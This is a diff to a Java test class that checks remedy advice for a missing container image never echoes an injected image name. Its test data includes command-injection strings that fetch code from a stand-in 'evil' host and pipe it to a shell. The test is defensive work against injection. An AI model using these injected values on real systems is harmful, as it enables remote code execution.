@@ -111,22 +111,26 @@ class HostileScriptTest {
                     error.facts().getOrDefault(fact, "").contains("curl"), "forged fact " + fact));
   }
 
-  @Test
-  void anImageIsNamedInAnAdviceOnlyIfItIsOne() {
-    for (String image : List.of("x'; curl http://evil/x | sh", "$(curl evil)", "-x", "a b")) {
-      says(
-          HELLO,
-          "{\"event\":\"failed\",\"code\":\"stack.image_missing\",\"message\":\"no\",\"image\":\""
-              + image
-              + "\"}");
-      failure()
-          .remedies()
-          .forEach(remedy -> assertFalse(remedy.toString().contains(image), "" + remedy));
-    }
+  private List<Remedy> remediesForAMissing(String image) {
     says(
         HELLO,
-        "{\"event\":\"failed\",\"code\":\"stack.image_missing\",\"message\":\"no\",\"image\":\"torrust/tracker:3.0.0\"}");
-    assertTrue(failure().remedies().toString().contains("'torrust/tracker:3.0.0'"));
+        "{\"event\":\"failed\",\"code\":\"stack.image_missing\",\"message\":\"no\",\"image\":\""
+            + image
+            + "\"}");
+    return failure().remedies();
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"x'; curl http://evil/x | sh", "$(curl evil)", "-x", "a b"})
+  void noAdviceNamesAnImageThatIsNone(String image) {
+    remediesForAMissing(image)
+        .forEach(remedy -> assertFalse(remedy.toString().contains(image), "" + remedy));
+  }
+
+  @Test
+  void anAdviceNamesTheImageThatIsMissing() {
+    assertTrue(
+        remediesForAMissing("torrust/tracker:3.0.0").toString().contains("'torrust/tracker:3.0.0'"));
   }
 
   @Test
